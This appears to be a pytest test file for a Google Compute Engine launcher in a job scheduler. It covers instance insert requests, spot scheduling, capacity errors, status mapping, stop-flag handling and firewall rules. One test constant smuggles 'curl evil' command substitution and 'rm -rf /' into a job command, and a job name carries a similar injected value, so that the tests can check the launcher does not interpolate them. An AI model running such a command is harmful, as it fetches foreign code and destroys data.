"""The Compute Engine launcher against a fake InstancesClient that keeps the exact request
objects the SDK would send, answers with real compute_v1 messages, and fails the way a
failed insert operation does (google.api_core exceptions carrying compute_v1 Errors)."""

from __future__ import annotations

import dataclasses
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

compute_v1 = pytest.importorskip("google.cloud.compute_v1")
from google.api_core import exceptions  # noqa: E402

from costsched.clouds import gcp as gcp_cloud  # noqa: E402
from costsched.model import InvalidInput, Offering  # noqa: E402
from launchers.base import TAG_ATTEMPT, TAG_JOB, CapacityError, LaunchSpec  # noqa: E402
from launchers.gcp import (  # noqa: E402
    META_SPEC,
    META_STOP,
    GcpLauncher,
    instance_name,
    machine_and_accelerators,
)
from launchers.userdata import read_payload  # noqa: E402

HOSTILE_COMMAND = "python train.py $(curl evil); rm -rf / #'"


class Operation:
    def __init__(self, error: Exception | None = None) -> None:
        self.error = error

    def result(self, timeout: float | None = None) -> None:
        if self.error is not None:
            raise self.error


class FakeInstances:
    """InstancesClient's methods as costsched calls them, over a dict of instances."""

    def __init__(self) -> None:
        self.inserted: list[compute_v1.InsertInstanceRequest] = []
        self.deleted: list[tuple[str, str, str]] = []
        self.metadata_set: list[compute_v1.Metadata] = []
        self.listed: list[compute_v1.AggregatedListInstancesRequest] = []
        self.store: dict[tuple[str, str], compute_v1.Instance] = {}
        self.fail_insert: Exception | None = None

    def insert(self, request: compute_v1.InsertInstanceRequest) -> Operation:
        self.inserted.append(request)
        if self.fail_insert is not None:
            return Operation(self.fail_insert)
        key = (request.zone, request.instance_resource.name)
        if key in self.store:
            return Operation(exceptions.Conflict("already exists"))
        made = compute_v1.Instance(request.instance_resource)
        made.status = "PROVISIONING"
        made.metadata.fingerprint = "fp-1"
        # As Compute Engine writes it: RFC 3339 in the zone's offset, milliseconds.
        made.creation_timestamp = datetime.now(timezone(timedelta(hours=-8))).isoformat(
            timespec="milliseconds")
        self.store[key] = made
        return Operation()

    def get(self, *, project: str, zone: str, instance: str) -> compute_v1.Instance:
        assert project == "proj"
        if (zone, instance) not in self.store:
            raise exceptions.NotFound(f"instance {instance} not found")
        return self.store[(zone, instance)]

    def delete(self, *, project: str, zone: str, instance: str) -> Operation:
        self.deleted.append((project, zone, instance))
        if self.store.pop((zone, instance), None) is None:
            return Operation(exceptions.NotFound(f"instance {instance} not found"))
        return Operation()

    def set_metadata(self, *, project: str, zone: str, instance: str,
                     metadata_resource: compute_v1.Metadata) -> Operation:
        self.metadata_set.append(metadata_resource)
        self.store[(zone, instance)].metadata = metadata_resource
        return Operation()

    def aggregated_list(self, request: compute_v1.AggregatedListInstancesRequest):
        self.listed.append(request)
        zones: dict[str, list[compute_v1.Instance]] = {}
        for (zone, _), made in self.store.items():
            wanted = request.filter.split("=", 1)[1].strip().strip('"') \
                if "=" in request.filter else None
            assert wanted is not None or request.filter == f"labels.{TAG_JOB}:*"
            if (made.labels.get(TAG_JOB) == wanted if wanted is not None
                    else TAG_JOB in made.labels):
                zones.setdefault(f"zones/{zone}", []).append(made)
        return [(scope, compute_v1.InstancesScopedList(instances=found))
                for scope, found in zones.items()]


def offering(instance_type: str = "n1-standard-8+1xnvidia-tesla-v100", market: str = "spot",
             zone: str = "us-central1-a") -> Offering:
    return Offering("gcp", "us-central1", zone, instance_type, market, "V100", 1)


def spec(off: Offering | None = None, attempt: str = "Migration 3/Ä", job_id: int = 7
         ) -> LaunchSpec:
    return LaunchSpec(job_id=job_id, job_name="n'$(x)", command=HOSTILE_COMMAND,
                      offering=off or offering(), checkpoint_uri="gs://b/ckpt",
                      attempt=attempt, envs={"LR": "0.1"})


@pytest.fixture
def fake() -> FakeInstances:
    return FakeInstances()


@pytest.fixture
def launcher(fake: FakeInstances) -> GcpLauncher:
    return GcpLauncher(project="proj", instances_client=fake,
                       service_account="runner@proj.iam.gserviceaccount.com")


def test_spot_n1_insert_request(fake: FakeInstances, launcher: GcpLauncher) -> None:
    got = launcher.launch(spec())
    [request] = fake.inserted
    assert (request.project, request.zone) == ("proj", "us-central1-a")
    assert request.request_id  # the same (job, attempt) retries with the same id
    body = request.instance_resource
    assert body.name == instance_name(7, "Migration 3/Ä") == got.id.split("/")[1]
    assert body.machine_type == "zones/us-central1-a/machineTypes/n1-standard-8"
    assert list(body.guest_accelerators) == [compute_v1.AcceleratorConfig(
        accelerator_count=1,
        accelerator_type="zones/us-central1-a/acceleratorTypes/nvidia-tesla-v100")]
    assert body.scheduling == compute_v1.Scheduling(
        provisioning_model="SPOT", instance_termination_action="DELETE",
        on_host_maintenance="TERMINATE", automatic_restart=False)
    assert dict(body.labels) == {TAG_JOB: "7", TAG_ATTEMPT: "migration-3--"}
    items = {i.key: i.value for i in body.metadata.items}
    job = read_payload(items["startup-script"])
    assert job["command"] == HOSTILE_COMMAND
    assert job["notice_url"] == gcp_cloud.PREEMPTION_NOTICE_URL
    assert HOSTILE_COMMAND not in items["startup-script"]
    assert "curl evil" not in items["startup-script"]
    assert json.loads(items[META_SPEC])["attempt"] == "Migration 3/Ä"
    assert body.disks[0].initialize_params.source_image == gcp_cloud.GPU_IMAGE
    assert dict(body.disks[0].initialize_params.labels) == dict(body.labels)  # on its bill
    assert body.service_accounts[0].email == "runner@proj.iam.gserviceaccount.com"
    assert (got.state, got.job_id, got.attempt) == ("pending", 7, "Migration 3/Ä")
    assert got.offering_key == offering().key
    # creationTimestamp, in the zone's offset, read as UTC; a pending one never started.
    made = datetime.fromisoformat(fake.store[("us-central1-a", body.name)].creation_timestamp)
    assert got.created_at == made and got.created_at.utcoffset() == timedelta(0)
    assert got.started_at is None


def test_accelerator_machine_type_on_demand(fake: FakeInstances, launcher) -> None:
    launcher.launch(spec(offering("a2-highgpu-1g", "on_demand")))
    body = fake.inserted[0].instance_resource
    assert body.machine_type == "zones/us-central1-a/machineTypes/a2-highgpu-1g"
    assert list(body.guest_accelerators) == []
    assert body.scheduling == compute_v1.Scheduling(on_host_maintenance="TERMINATE")


def test_machine_and_accelerators_parsing() -> None:
    assert machine_and_accelerators("n1-standard-16+2xnvidia-tesla-t4") == (
        "n1-standard-16", "nvidia-tesla-t4", 2)
    assert machine_and_accelerators("g2-standard-4") == ("g2-standard-4", "", 0)
    # A CPU machine type the catalog sells runs as it is; one it does not know is refused.
    assert machine_and_accelerators("n2-standard-8") == ("n2-standard-8", "", 0)
    with pytest.raises(InvalidInput, match="instance type 'x9-made-up-8'"):
        machine_and_accelerators("x9-made-up-8")


def test_regional_offering_takes_the_first_known_zone(fake: FakeInstances) -> None:
    asked = []

    def zones(off: Offering) -> list[str]:
        asked.append(off.region)
        return ["us-central1-f", "us-central1-a"]

    launcher = GcpLauncher(project="proj", instances_client=fake, zones=zones)
    got = launcher.launch(spec(offering(zone="")))
    assert fake.inserted[0].zone == "us-central1-f" and asked == ["us-central1"]
    assert got.id.startswith("us-central1-f/")
    assert got.offering_key == offering(zone="").key  # the offering asked for, not the zone


def test_insert_again_after_a_crash_finds_the_instance(fake, launcher) -> None:
    first = launcher.launch(spec())
    again = GcpLauncher(project="proj", instances_client=fake).launch(spec())
    assert again.id == first.id and len(fake.store) == 1
    assert fake.inserted[0].request_id == fake.inserted[1].request_id


@pytest.mark.parametrize("code", ["ZONE_RESOURCE_POOL_EXHAUSTED",
                                  "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS",
                                  "QUOTA_EXCEEDED"])
def test_capacity_errors(fake: FakeInstances, launcher: GcpLauncher, code: str) -> None:
    # What ExtendedOperation.result() raises for a failed insert operation.
    fake.fail_insert = exceptions.from_http_status(
        400, "The zone does not have enough resources available",
        errors=[compute_v1.Errors(code=code, message="details")])
    with pytest.raises(CapacityError) as caught:
        launcher.launch(spec())
    assert code in caught.value.reason and caught.value.offering == offering()


def test_stockout_message_and_other_errors(fake: FakeInstances, launcher) -> None:
    fake.fail_insert = exceptions.ServiceUnavailable("stockout in us-central1-a")
    with pytest.raises(CapacityError):
        launcher.launch(spec())
    fake.fail_insert = exceptions.BadRequest("Invalid value for field 'machineType'",
                                             errors=[{"reason": "invalid"}])
    with pytest.raises(RuntimeError) as caught:
        launcher.launch(spec())
    assert not isinstance(caught.value, CapacityError) and "machineType" in str(caught.value)


@pytest.mark.parametrize(("status", "market", "state"), [
    ("PROVISIONING", "spot", "pending"), ("STAGING", "spot", "pending"),
    ("RUNNING", "spot", "running"), ("STOPPING", "spot", "preempted"),
    ("TERMINATED", "spot", "preempted"), ("TERMINATED", "on_demand", "terminated")])
def test_status_mapping(fake, launcher, status: str, market: str, state: str) -> None:
    got = launcher.launch(spec(offering(market=market)))
    fake.store[tuple(got.id.split("/"))].status = status
    assert launcher.status(got.id).state == state


def test_preempted_instance_lost_when_compute_engine_stopped_it(fake, launcher) -> None:
    got = launcher.launch(spec())
    record = fake.store[tuple(got.id.split("/"))]
    record.status = "TERMINATED"
    record.last_stop_timestamp = "2026-11-29T03:04:05.123-08:00"  # RFC 3339, zone's offset
    seen = launcher.status(got.id)
    assert seen.state == "preempted"
    assert seen.lost_at == datetime(2026, 11, 29, 11, 4, 5, 123000, tzinfo=timezone.utc)
    on_demand = launcher.launch(spec(offering(market="on_demand"), attempt="b"))
    fake.store[tuple(on_demand.id.split("/"))].status = "TERMINATED"
    assert launcher.status(on_demand.id).lost_at is None  # not preempted: not lost


def test_deleted_spot_instance_reads_preempted_unless_we_deleted_it(fake, launcher) -> None:
    taken = launcher.launch(spec(attempt="a"))
    fake.store.pop(tuple(taken.id.split("/")))  # Compute Engine deletes it on preemption
    assert launcher.status(taken.id).state == "preempted"
    ours = launcher.launch(spec(attempt="b"))
    launcher.terminate(ours.id)
    launcher.terminate(ours.id)  # idempotent
    assert fake.deleted[0] == ("proj", "us-central1-a", ours.id.split("/")[1])
    assert launcher.status(ours.id).state == "terminated"
    with pytest.raises(InvalidInput, match="ZONE/NAME"):
        launcher.status("not-a-handle")


def test_instances_by_label(fake: FakeInstances, launcher: GcpLauncher) -> None:
    seven = launcher.launch(spec(job_id=7))
    eight = launcher.launch(spec(job_id=8))
    assert [i.id for i in launcher.instances(8)] == [eight.id]
    assert fake.listed[-1].filter == f'labels.{TAG_JOB} = "8"'
    assert {i.id for i in launcher.instances()} == {seven.id, eight.id}
    assert fake.listed[-1].filter == f"labels.{TAG_JOB}:*"


def test_request_stop_sets_the_stop_flag(fake: FakeInstances, launcher) -> None:
    got = launcher.launch(spec())
    launcher.request_stop(got.id)
    [metadata] = fake.metadata_set
    items = {i.key: i.value for i in metadata.items}
    assert metadata.fingerprint == "fp-1"
    assert items[META_STOP] == "TRUE" and "startup-script" in items
    assert read_payload(items["startup-script"])["stop"]["url"].endswith(META_STOP)


def test_stop_flag_watcher_sends_sigterm_to_the_agent(tmp_path) -> None:
    """The startup script under bash with a stand-in agent: once the loopback "metadata
    server" answers TRUE, the watcher beside the agent sends it SIGTERM."""
    import http.server
    import os
    import subprocess
    import sys
    import threading

    from launchers.userdata import StopFlag, startup_script

    class Flag(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            ok = self.headers.get("Metadata-Flavor") == "Google"
            body = b"TRUE" if ok else b"FALSE"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Flag)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    root = tmp_path / "root"
    (root / "bin").mkdir(parents=True)
    (root / "bin" / "python").symlink_to(sys.executable)
    fake = tmp_path / "fake" / "launchers"
    fake.mkdir(parents=True)
    # the real package behind the stand-in agent: its supervisor runs the stand-in
    real = Path(__file__).resolve().parents[2] / "launchers"
    (fake / "__init__.py").write_text(f"__path__.append({str(real)!r})\n")
    got = tmp_path / "sigterm"
    (fake / "agent.py").write_text(
        "import signal, sys, time\n"
        "STATUS, CHECKPOINTS = 'status.json', 'checkpoints'\n"
        "if __name__ == '__main__':\n"
        " import pathlib; pathlib.Path(sys.argv[sys.argv.index('--workdir') + 1], STATUS)"
        ".write_text('{\"state\": \"stopped\"}')\n"
        f" signal.signal(signal.SIGTERM, lambda *a: (open({str(got)!r}, 'w').close(), "
        "sys.exit(0)))\n"
        " time.sleep(30)\n sys.exit(3)\n")
    flag = StopFlag(url=f"http://127.0.0.1:{server.server_port}/stop",
                    headers={"Metadata-Flavor": "Google"}, every_seconds=1.0)
    script = startup_script(spec(), install="true", notice_url="http://127.0.0.1:9/none",
                            root=str(root), stop=flag)
    env = {"PATH": os.environ["PATH"],
           "PYTHONPATH": os.pathsep.join([str(fake.parent), str(real.parent)])}
    try:
        done = subprocess.run(["bash", "-c", script], env=env, capture_output=True,
                              text=True, timeout=60, cwd=tmp_path)
    finally:
        server.shutdown()
    assert done.returncode == 0, done.stderr
    assert got.exists()


def test_statuses_one_aggregated_list_equal_status_one_by_one(
        fake: FakeInstances, launcher: GcpLauncher) -> None:
    running = launcher.launch(spec(job_id=7))
    fake.store[tuple(running.id.split("/"))].status = "RUNNING"
    taken = launcher.launch(spec(job_id=8))
    fake.store[tuple(taken.id.split("/"))].status = "TERMINATED"
    ended = launcher.launch(spec(offering(market="on_demand", zone="us-east1-b"), job_id=9))
    fake.store[tuple(ended.id.split("/"))].status = "TERMINATED"
    deleted = launcher.launch(spec(job_id=10))
    launcher.terminate(deleted.id)
    gone = launcher.launch(spec(job_id=11))
    fake.store.pop(tuple(gone.id.split("/")))  # Compute Engine deleted it (preemption)
    pending = launcher.launch(spec(job_id=12))
    foreign = compute_v1.Instance(name="web-1", status="RUNNING")
    fake.store[("us-central1-a", "web-1")] = foreign  # not costsched's: no label
    ours = [running.id, taken.id, ended.id, deleted.id, gone.id, pending.id]
    one_by_one = {i: launcher.status(i) for i in ours}
    assert [one_by_one[i].state for i in ours] == [
        "running", "preempted", "terminated", "terminated", "preempted", "pending"]
    fake.listed.clear()
    asked = [*ours, "us-central1-a/web-1", "not-a-handle", running.id]
    assert launcher.statuses(asked) == one_by_one
    assert fake.listed == [compute_v1.AggregatedListInstancesRequest(
        project="proj", filter=f"labels.{TAG_JOB}:*")]  # one call for every zone
    assert launcher.statuses(["not-a-handle"]) == {} and len(fake.listed) == 1


class FakeFirewalls:
    def __init__(self) -> None:
        self.inserted: list[tuple[str, compute_v1.Firewall]] = []

    def insert(self, *, project: str, firewall_resource: compute_v1.Firewall) -> Operation:
        if any(f.name == firewall_resource.name for _, f in self.inserted):
            return Operation(exceptions.Conflict("already exists"))
        self.inserted.append((project, firewall_resource))
        return Operation()


def test_a_tasks_disk_image_ports_labels_and_network_tier_reach_compute_engine(
        fake: FakeInstances) -> None:
    firewalls = FakeFirewalls()
    launcher = GcpLauncher(project="proj", instances_client=fake, firewalls_client=firewalls)
    task = {"ports": ["8888", "6006-6010"], "disk_size": 300, "disk_tier": "high",
            "image_id": "projects/p/global/images/mine", "labels": {"Team": "NLP"},
            "network_tier": "best"}
    launcher.launch(dataclasses.replace(spec(), task=task))
    launcher.launch(dataclasses.replace(spec(attempt="again"), task=task))
    body = fake.inserted[0].instance_resource
    params = body.disks[0].initialize_params
    assert (params.source_image, params.disk_size_gb) == ("projects/p/global/images/mine", 300)
    assert params.disk_type == "zones/us-central1-a/diskTypes/pd-ssd"
    assert dict(body.labels)["team"] == "nlp"
    assert body.network_interfaces[0].access_configs[0].network_tier == "PREMIUM"
    assert list(body.tags.items) == ["costsched-7-ports"]
    [(project, rule)] = firewalls.inserted  # one rule per job, found again after
    assert project == "proj" and list(rule.target_tags) == ["costsched-7-ports"]
    assert [(a.I_p_protocol, list(a.ports)) for a in rule.allowed] == [
        ("tcp", ["8888", "6006-6010"])]
